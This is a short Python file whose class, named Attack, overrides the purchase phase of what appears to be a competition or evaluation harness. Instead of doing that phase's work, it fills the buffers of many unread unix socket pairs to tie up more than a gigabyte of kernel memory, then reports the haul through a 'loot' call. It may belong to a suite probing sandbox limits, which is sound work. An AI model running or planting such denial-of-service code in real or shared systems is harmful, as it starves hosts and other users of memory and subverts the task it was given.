"""Fills the queues of unix sockets of every kind that nobody reads, up to 1,400 MiB."""

import socket
import time

from aim import MIB, loot, most_files

from run import ZEWDPCBaseRun


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        most = most_files()
        held, sent, data = [], 0, bytes(100_000)
        kinds = (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET)
        while sent < 1400 * MIB and len(held) * 2 < most - 100:
            pair = socket.socketpair(socket.AF_UNIX, kinds[len(held) % 3])
            held.append(pair)
            for end in pair:
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 * MIB)
                end.setblocking(False)
                try:
                    while True:
                        sent += end.send(data)
                except OSError:
                    continue
        time.sleep(1.2)
        if sent > 1000 * MIB:
            loot(f"{sent // MIB} MiB in {len(held)} pairs")
